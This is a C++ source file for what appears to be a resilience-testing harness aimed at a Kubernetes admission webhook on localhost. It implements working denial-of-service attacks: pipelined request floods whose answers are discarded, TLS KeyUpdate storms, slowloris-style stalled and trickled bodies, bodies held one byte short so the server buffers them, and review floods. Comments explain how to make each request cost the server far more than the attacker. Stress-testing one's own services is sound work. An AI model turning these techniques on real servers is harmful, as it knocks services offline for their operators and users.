#include "attacks.hpp"

#include <algorithm>
#include <charconv>
#include <fstream>
#include <sstream>
#include <stdexcept>

namespace attacker {
namespace {

std::string read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream text;
  text << in.rdbuf();
  if (!in) throw std::invalid_argument("cannot read " + path);
  return text.str();
}

std::string header(std::size_t length) {
  return "POST /mutate?timeout=30s HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
         "Content-Length: " +
         std::to_string(length) + "\r\n\r\n";
}

// The smallest review that keeps its connection.
std::string small_review() {
  const std::string body =
      R"({"kind":"AdmissionReview","apiVersion":"admission.k8s.io/v1","request":{"uid":"u1",)"
      R"("kind":{"group":"","version":"v1","kind":"Service"},"operation":"CREATE","object":{}}})";
  return header(body.size()) + body;
}

// Requests as fast as they go. The answers are thrown away in the kernel, so that a request
// costs the server a hundred times what it costs here.
class Pipeline final : public Attack {
 public:
  Pipeline() {
    const std::string request = small_review();
    while (requests_.size() + request.size() <= record) requests_ += request, ++in_record_;
  }

  void turn(Peer& peer, Notes&) override {
    counts["answered_bytes"] += peer.discard();
    for (int i = 0; i < 4 && peer.state() == Peer::State::open && peer.unsent() == 0; ++i) {
      peer.send(requests_);
      peer.flush();
      counts["requests"] += in_record_;
    }
    peer.flush();
  }

  bool presses() const override { return true; }

 private:
  static constexpr std::size_t record = 16384;  // of TLS, the largest
  std::string requests_;
  std::size_t in_record_ = 0;
};

// Handshake messages without a request between them. Each costs both sides a derivation of
// keys; so they are made beforehand, while the server has nothing to do, and sent all at once.
class KeyUpdates final : public Attack {
 public:
  explicit KeyUpdates(const Options& options)
      : kind_(options.request ? SSL_KEY_UPDATE_REQUESTED : SSL_KEY_UPDATE_NOT_REQUESTED),
        charge_(Seconds(options.charge) / static_cast<double>(options.connections)),
        to_charge_(options.connections) {}

  void opened(Peer& peer, Notes&) override {
    peer.send(small_review());  // then it may be idle for long
    peer.flush();
  }

  // Nothing is sent before: whoever is ready first would be served first, and idly.
  void standing() override { standing_ = true; }

  void turn(Peer& peer, Notes& notes) override {
    counts["answered_bytes"] += peer.discard();
    if (!standing_) return;
    if (notes.sent++ == 0 && to_charge_ > 0) {
      --to_charge_;  // who comes in place of a closed one presses at once
      const auto until = Clock::now() + charge_;
      while (Clock::now() < until) update(peer);
      return;  // the others make theirs first
    }
    if (peer.unsent() < 4096)
      for (int i = 0; i < 64; ++i) update(peer);
    peer.flush();
  }

  bool presses() const override { return true; }

 private:
  void update(Peer& peer) {
    if (peer.state() != Peer::State::open) return;
    const bool made =
        SSL_key_update(peer.ssl(), kind_) == 1 && SSL_do_handshake(peer.ssl()) == 1;
    if (!made) return peer.close();
    ++counts["updates"];
  }

  int kind_;
  Seconds charge_;
  std::size_t to_charge_;
  bool standing_ = false;
};

// A body that never comes, or comes a byte at a time.
class SlowBodies final : public Attack {
 public:
  explicit SlowBodies(bool trickle) : trickle_(trickle) {}

  void opened(Peer& peer, Notes& notes) override {
    peer.send(header(250000) + "{");
    peer.flush();
    notes.last = Clock::now();
  }

  void turn(Peer& peer, Notes& notes) override {
    peer.flush();
    if (peer.state() == Peer::State::open) counts["answered_bytes"] += peer.discard();
    if (!trickle_ || peer.state() != Peer::State::open) return;
    if (Clock::now() - notes.last < std::chrono::milliseconds(100)) return;
    notes.last = Clock::now();
    peer.send(" ");
    peer.flush();
    ++counts["trickled_bytes"];
  }

 private:
  bool trickle_;
};

// Bodies that lack one byte, so that the server keeps all the rest.
class KeptBodies final : public Attack {
 public:
  explicit KeptBodies(const Options& options)
      : complete_(options.complete), body_(read_file(options.file)) {}

  void opened(Peer& peer, Notes&) override {
    peer.send(header(body_.size()));
    peer.flush();
  }

  void standing() override { standing_ = true; }

  // In pieces, or the attacker would hold as much as the server.
  void turn(Peer& peer, Notes& notes) override {
    peer.flush();
    if (peer.state() == Peer::State::open) counts["answered_bytes"] += peer.discard();
    const std::size_t end = complete_ && standing_ ? body_.size() : body_.size() - 1;
    while (peer.state() == Peer::State::open && peer.unsent() == 0 && notes.sent < end) {
      const std::size_t size = std::min(piece, end - notes.sent);
      peer.send(std::string_view(body_).substr(notes.sent, size));
      peer.flush();
      notes.sent += size;
      counts["all_but_one_byte"] += notes.sent == body_.size() - 1;
      counts["completed"] += notes.sent == body_.size();
    }
  }

 private:
  static constexpr std::size_t piece = 16384;

  bool complete_;
  bool standing_ = false;
  std::string body_;
};

// One review again and again. Its uid, where it has the placeholder, is another each time.
class Reviews final : public Attack {
 public:
  explicit Reviews(const Options& options)
      : unread_(options.unread),
        at_once_(options.at_once),
        count_(options.count),
        body_(read_file(options.file)),
        uid_(body_.find("00000000-0000-4000-8000-000000000000")) {}

  void turn(Peer& peer, Notes& notes) override {
    peer.flush();
    if (!unread_) read(peer, notes);  // also to learn that the server has closed
  }

  void press(Peer& peer, Notes& notes) override {
    if (notes.waiting || !presses()) return;
    stamp();
    peer.send(header(body_.size()));
    peer.send(body_);
    peer.flush();
    ++sent_, ++notes.sent, ++under_way_, ++counts["sent"];
    notes.waiting = true;
  }

  // Before all stand, the first connections would have sent everything.
  void standing() override { standing_ = true; }

  bool presses() const override {
    return standing_ && sent_ < count_ && (unread_ || under_way_ < at_once_);
  }

  void closed(Notes& notes) override {
    if (!notes.waiting) return;
    --under_way_;
    ++counts["closed_without_answer"];
    ++finished_;
  }

  bool done() const override { return finished_ == count_; }

 private:
  void stamp() {
    if (uid_ == std::string::npos) return;
    std::string digits = std::to_string(sent_);
    body_.replace(uid_ + 36 - digits.size(), digits.size(), digits);
  }

  void read(Peer& peer, Notes& notes) {
    if (peer.state() != Peer::State::open) return;
    peer.receive(notes.received);
    if (!notes.waiting) return;
    const std::size_t end = notes.received.find("\r\n\r\n");
    if (end == std::string::npos) return;
    const std::size_t length = content_length(std::string_view(notes.received).substr(0, end));
    if (notes.received.size() < end + 4 + length) return;
    ++counts["status_" + notes.received.substr(9, 3)];
    counts["answered_bytes"] += length;
    counts["largest_answer"] = std::max<std::uint64_t>(counts["largest_answer"], length);
    notes.received.clear();
    notes.received.shrink_to_fit();
    notes.waiting = false;
    --under_way_;
    ++finished_;
  }

  static std::size_t content_length(std::string_view head) {
    constexpr std::string_view name = "\r\nContent-Length: ";
    const std::size_t found = head.find(name);
    std::size_t length = 0;
    if (found != std::string_view::npos)
      std::from_chars(head.data() + found + name.size(), head.data() + head.size(), length);
    return length;
  }

  bool unread_;
  bool standing_ = false;
  std::size_t at_once_, count_;
  std::string body_;
  std::size_t uid_;
  std::size_t sent_ = 0, finished_ = 0, under_way_ = 0;
};

// Callers that do nothing wrong: one request at a time and a pause after it, on a connection that
// is opened again when the server has closed it. GET /livez, or the review of a file.
class Polite final : public Attack {
 public:
  explicit Polite(const Options& options)
      : every_(options.every),
        request_(options.file.empty() ? "GET /livez HTTP/1.1\r\nHost: a\r\n\r\n"
                                      : request_of(read_file(options.file))) {}

  void opened(Peer& peer, Notes& notes) override { turn(peer, notes); }

  void turn(Peer& peer, Notes& notes) override {
    peer.flush();
    if (peer.state() == Peer::State::open) peer.receive(notes.received);
    if (notes.received.find("\r\n\r\n") != std::string::npos) {
      ++counts["status_" + notes.received.substr(9, 3)];
      notes.received.clear();
      notes.waiting = false;
    }
    const auto now = Clock::now();
    if (peer.state() != Peer::State::open || notes.waiting || now - notes.last < every_) return;
    notes.last = now;
    notes.waiting = true;
    peer.send(request_);
    peer.flush();
    ++counts["sent"];
  }

  void closed(Notes& notes) override {
    if (notes.waiting) ++counts["closed_without_answer"];
    notes.waiting = false;
  }

 private:
  static std::string request_of(const std::string& body) { return header(body.size()) + body; }

  const Seconds every_;
  const std::string request_;
};

}  // namespace

std::unique_ptr<Attack> make_attack(const Options& options) {
  if (options.attack == "pipeline") return std::make_unique<Pipeline>();
  if (options.attack == "key-updates") return std::make_unique<KeyUpdates>(options);
  if (options.attack == "slow-bodies") return std::make_unique<SlowBodies>(options.trickle);
  if (options.attack == "kept-bodies") return std::make_unique<KeptBodies>(options);
  if (options.attack == "reviews") return std::make_unique<Reviews>(options);
  if (options.attack == "polite") return std::make_unique<Polite>(options);
  throw std::invalid_argument("no attack \"" + options.attack + "\"");
}

}  // namespace attacker
